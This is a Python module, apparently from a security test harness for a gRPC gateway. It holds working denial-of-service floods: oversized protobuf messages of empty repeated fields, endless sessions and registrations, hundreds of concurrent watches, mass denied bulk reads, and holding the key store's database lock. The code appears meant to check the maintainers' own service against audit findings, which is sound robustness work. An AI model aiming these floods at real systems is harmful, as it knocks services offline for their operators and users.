"""Floods of callers who have a key, and use all that it allows."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import sqlite3
from collections import Counter
from collections.abc import AsyncIterator
from pathlib import Path

import grpc.aio

from attack.target import FLOODER, LIMITED, Target
from attack.wire import GALAXY, INVOKE, INVOKE_STREAM, attempt, bearer, channel, deadline, raw_unary
from mxgateway import ClientOptions, GatewayClient, MxGatewayError, Session
from mxgateway.generated import galaxy_repository_pb2 as gpb
from mxgateway.generated import mxaccess_gateway_pb2 as pb
from mxgateway_contract.varints import varint

MIB = 2**20


@contextlib.asynccontextmanager
async def session_of(target: Target, key: str = FLOODER) -> AsyncIterator[Session]:
    """A session of this key."""
    options = ClientOptions(endpoint=target.address, api_key=target.keys[key], ca_file=target.ca_file)
    async with (
        await GatewayClient.connect(options) as client,
        await client.open_session(client_session_name="flood") as opened,
    ):
        yield opened


def empty_fields(number: int, size: int) -> bytes:
    """A field of messages or texts, empty and as often as fits into so many bytes."""
    one = varint(number << 3 | 2) + b"\0"
    return one * (size // len(one))


def wrapped(number: int, inner: bytes) -> bytes:
    """Bytes as the field of this number."""
    return varint(number << 3 | 2) + varint(len(inner)) + inner


async def batch(target: Target, seconds: float) -> Counter[str]:
    """One message of a command stream with half a million empty commands, again and again (C1)."""
    outcome: Counter[str] = Counter()
    async with session_of(target) as session, deadline(seconds):
        message = wrapped(1, session.session_id.encode()) + empty_fields(2, MIB)
        while True:
            async with channel(target) as opened:
                stream = opened.stream_stream(INVOKE_STREAM)(metadata=bearer(target, FLOODER))
                try:
                    await stream.write(message)
                    while await stream.read() is not grpc.aio.EOF:
                        outcome["replies"] += 1
                except grpc.aio.AioRpcError as error:
                    outcome[error.code().name] += 1
                finally:
                    stream.cancel()
                await asyncio.sleep(0)
    return outcome


async def entries(target: Target, seconds: float) -> Counter[str]:
    """Commands of 15 MiB whose entries, elements or numbers are empty, with and without their scope (H2)."""
    outcome: Counter[str] = Counter()
    kinds = pb.MxCommandKind.Value
    fields = pb.MxCommand.DESCRIPTOR.fields_by_name
    sparse = pb.MxValue.DESCRIPTOR.fields_by_name.get("sparse_array_value")

    def command(kind: str, payload: bytes) -> bytes:
        head = pb.MxCommand(kind=kinds(f"MX_COMMAND_KIND_{kind}")).SerializeToString()
        return head + wrapped(fields[kind.lower()].number, payload)

    def number_of(kind: str, field: str) -> int:
        return int(fields[kind.lower()].message_type.fields_by_name[field].number)

    async with session_of(target) as session, deadline(seconds), channel(target) as opened:
        head = wrapped(pb.MxCommandRequest.DESCRIPTOR.fields_by_name["session_id"].number, session.session_id.encode())
        where = pb.MxCommandRequest.DESCRIPTOR.fields_by_name["command"].number
        bodies = [
            command("WRITE_BULK", empty_fields(number_of("WRITE_BULK", "entries"), 15 * MIB)),
            command("READ_BULK", empty_fields(number_of("READ_BULK", "tag_addresses"), 15 * MIB)),
        ]
        if sparse is not None:
            bodies.append(
                command(
                    "WRITE", wrapped(number_of("WRITE", "value"), wrapped(sparse.number, empty_fields(3, 15 * MIB)))
                )
            )
        invoke = raw_unary(opened, INVOKE)
        for body in itertools.cycle(bodies):
            message = head + wrapped(where, body)
            await attempt(outcome, invoke(message, timeout=seconds, metadata=bearer(target, FLOODER)))
    return outcome


async def numbers(target: Target, seconds: float) -> Counter[str]:
    """Galaxy queries whose filters are 15 MiB of numbers (H2)."""
    outcome: Counter[str] = Counter()
    field = gpb.DiscoverHierarchyRequest.DESCRIPTOR.fields_by_name["category_ids"].number
    message = wrapped(field, bytes(15 * MIB))
    async with deadline(seconds), channel(target) as opened:
        discover = raw_unary(opened, GALAXY + "DiscoverHierarchy")
        while True:
            await attempt(outcome, discover(message, timeout=seconds, metadata=bearer(target, FLOODER)))
    return outcome


async def denials(target: Target, seconds: float) -> Counter[str]:
    """Bulk reads of a thousand long names that the key may not read (H5)."""
    outcome: Counter[str] = Counter()
    tags = [f"Nobody_{number}.{'x' * 980}" for number in range(1000)]
    async with session_of(target, LIMITED) as session, deadline(seconds), asyncio.TaskGroup() as group:
        server = await session.register("denials")

        async def worker() -> None:
            while True:
                try:
                    outcome["denied"] += len(await session.read_bulk(server, tags))
                except MxGatewayError as error:
                    outcome[type(error).__name__] += 1

        for _ in range(4):
            group.create_task(worker())
    return outcome


async def items(target: Target, seconds: float) -> Counter[str]:
    """Items and registrations without end in one session (M2)."""
    outcome: Counter[str] = Counter()
    async with session_of(target) as session, deadline(seconds):
        server = await session.register("items")
        for number in itertools.count():
            try:
                tags = [f"TestChildObject.TestInt{number}_{each}" for each in range(1000)]
                outcome["items"] += sum(one.was_successful for one in await session.add_item_bulk(server, tags))
                await session.register("x" * 8 * MIB)
                outcome["registrations"] += 1
            except MxGatewayError as error:
                outcome[type(error).__name__] += 1
                await asyncio.sleep(0.01)
    return outcome


async def sessions(target: Target, seconds: float) -> Counter[str]:
    """As many sessions as one key gets, all kept (M3)."""
    outcome: Counter[str] = Counter()
    options = ClientOptions(endpoint=target.address, api_key=target.keys[FLOODER], ca_file=target.ca_file)
    async with await GatewayClient.connect(options) as client, deadline(seconds), asyncio.TaskGroup() as group:

        async def worker() -> None:
            for _ in range(20):
                try:
                    await client.open_session(client_session_name="sessions")
                    outcome["opened"] += 1
                except MxGatewayError as error:
                    outcome[type(error).__name__] += 1
                    await asyncio.sleep(0.2)

        for _ in range(8):
            group.create_task(worker())
    return outcome


async def queries(target: Target, seconds: float) -> Counter[str]:
    """32 Galaxy queries at a time (L14), and as many deploy watches as are given (M12)."""
    outcome: Counter[str] = Counter()
    request = gpb.DiscoverHierarchyRequest(page_size=1000).SerializeToString()

    async with deadline(seconds), channel(target) as opened, asyncio.TaskGroup() as group:

        async def ask() -> None:
            discover = raw_unary(opened, GALAXY + "DiscoverHierarchy")
            while True:
                await attempt(outcome, discover(request, timeout=seconds, metadata=bearer(target, FLOODER)))

        async def watch() -> None:
            stream = opened.unary_stream(GALAXY + "WatchDeployEvents")(b"", metadata=bearer(target, FLOODER))
            try:
                while await stream.read() is not grpc.aio.EOF:
                    outcome["news"] += 1
            except grpc.aio.AioRpcError as error:
                outcome[f"watch {error.code().name}"] += 1

        for _ in range(32):
            group.create_task(ask())
        for _ in range(900):
            group.create_task(watch())
    return outcome


async def locked_store(target: Target, seconds: float) -> Counter[str]:
    """Another process holds the key store's write lock (H7)."""
    with contextlib.closing(sqlite3.connect(Path(target.state_dir) / "keys.db", isolation_level=None)) as connection:
        connection.execute("PRAGMA busy_timeout = 5000")
        connection.execute("BEGIN IMMEDIATE")
        async with deadline(seconds):
            await asyncio.Event().wait()
        connection.execute("ROLLBACK")
    return Counter({"held": 1})
